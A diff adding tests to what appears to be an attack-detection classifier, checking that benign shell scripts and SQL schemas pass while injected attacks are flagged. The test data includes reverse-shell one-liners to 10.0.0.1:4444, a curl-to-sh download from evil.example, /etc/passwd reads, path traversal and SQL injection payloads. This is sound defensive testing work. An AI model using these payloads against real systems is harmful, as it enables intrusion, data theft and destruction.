@@ -618,3 +618,43 @@ t.test('traversal: a climb whose slashes lost their percent sign', async (t) => 
   for (const p of ['..2fetc2fpasswd', '..2f..2fetc2fpasswd', '..5c..5c..5cwindows5cwin.ini']) t.ok(q(p).includes('path_traversal'), p)
   for (const p of ['..2fconfig', 'a2f5c..2f', '0x2f..5cab']) t.notOk(q(p).includes('path_traversal'), p)
 })
+
+// ---- eighth round (2026-12-02), tuned on the fifth fresh part: each kind with what it leaves alone ----
+t.test('scanner: an archive named for a backup in any folder, not a release or a download', async (t) => {
+  for (const p of ['/admin99/backup.zip', '/databackup/temp.zip', '/include/eweb/www.rar', '/dede/plus/paycenter/alipay/database.zip', '/xyadmin/wwwroot.zip', '/members/backupdata.rar', '/programs/1.zip', '/china/db/0.rar', '/old/site.tar.gz', '/a/htdocs.7z']) t.ok(path(p).includes('scanner'), p)
+  for (const p of ['/downloads/release.zip', '/docs/html.zip', '/datasets/data.zip', '/archive/refs/tags/2023.zip', '/releases/1.zip', '/downloads/source.zip', '/assets/webfonts.zip', '/files/backup-guide.pdf', '/api/backup', '/static/app.1.js']) t.notOk(path(p).includes('scanner'), p)
+})
+
+t.test('shell: a whole program sent as data is code; an injection, a reverse shell or a download run in it is not', async (t) => {
+  const plugin = '# Changes directory to the last working directory\nlwd() {\n  local cache_file="$ZSH_CACHE_DIR/last-working-dir"\n  [[ -r "$cache_file" ]] && cd "$(<"$cache_file")"\n}\n\nif lwd 2>/dev/null; then\n  ZSH_LAST_WORKING_DIRECTORY=1\nfi\n'
+  const slice = '  # Save beginning space\n  local WHITESPACE=""\n  if [ "${LBUFFER:0:1}" = " " ]; then\n    WHITESPACE=" "\n  fi\n'
+  const nested = 'function fzf_setup() {\n  (( ${+commands[fzf]} )) || return 1\n  local v=${${(z)$(fzf --version)}[1]}\n  echo $v | grep -q 0.48\n}\n'
+  for (const v of [plugin, slice, nested]) {
+    t.same(q(v), [], v.slice(0, 40))
+    t.same(json({ snippet: v }), [], `JSON: ${v.slice(0, 40)}`)
+    t.same(multipart('file', v), [], `multipart: ${v.slice(0, 40)}`)
+  }
+  t.ok(q(`${plugin}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`).includes('rce'), 'a reverse shell inside a program')
+  t.ok(q(`${plugin}curl -s http://evil.example/x | sh\n`).includes('rce'), 'a download run inside a program')
+  t.ok(q(`${plugin}rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/p\n`).includes('rce'), 'a fifo reverse shell inside a program')
+  t.ok(q('\nid; uname -a\n# x\nexport A=1\nlocal b=2\n').includes('rce'), 'a value starting with a line break is an injection')
+  t.ok(q('x; cat /etc/passwd\n# comment\nexport A=1\n').includes('rce'), 'no structure line but one: a separator then a program')
+  t.ok(q('a && id\nb').includes('rce'), 'two lines of injected commands')
+  t.ok(q('${LS_COLORS:10:1}').includes('rce') || q(';${PATH:0:1}cat${IFS}/etc/passwd').includes('rce'), 'a variable slice outside a program still counts')
+  t.ok(q('## Heading\n\n# another\n\nx; cat /etc/passwd').includes('rce'), 'Markdown headings alone make no program')
+})
+
+t.test('SQL: a whole program (a schema, a procedure) is code unless it probes', async (t) => {
+  const schema = 'CREATE TABLE country (\n  country_id SMALLINT UNSIGNED NOT NULL AUTO_INCREMENT,\n  country VARCHAR(50) NOT NULL,\n  PRIMARY KEY (country_id)\n);\nDROP VIEW IF EXISTS v;\n'
+  const proc = "IF EXISTS (SELECT * FROM DBO.SYSOBJECTS WHERE ID = OBJECT_ID(N'dbo.x'))\n    DROP PROCEDURE dbo.x\nGO\nCREATE Procedure x AS SELECT 1;\n"
+  const trigger = "CREATE TRIGGER t_ai AFTER INSERT ON language\n BEGIN\n  UPDATE language SET last_update = DATETIME('NOW') WHERE rowid = new.rowid;\n END\n;\n"
+  for (const v of [schema, proc, trigger]) {
+    t.same(q(v), [], v.slice(0, 40))
+    t.same(json({ snippet: v }), [], `JSON: ${v.slice(0, 40)}`)
+  }
+  t.ok(q(`${schema}SELECT a FROM t UNION SELECT password FROM users;\n`).includes('sqli'), 'a UNION SELECT in a program')
+  t.ok(q(`${schema}SELECT IF(1=1, SLEEP(5), 0);\n`).includes('sqli'), 'a delay in a program')
+  t.ok(q("CREATE TABLE x (a int);\nSELECT * FROM t WHERE a = '' OR '1'='1';\nDROP TABLE x;\n").includes('sqli'), 'a tautology in a program')
+  t.ok(q("'; DROP TABLE users;--").includes('sqli'), 'one stacked statement is no program')
+  t.ok(q("1;\nDROP TABLE users;\n--").includes('sqli'), 'a stacked statement after a number over lines is no program')
+})
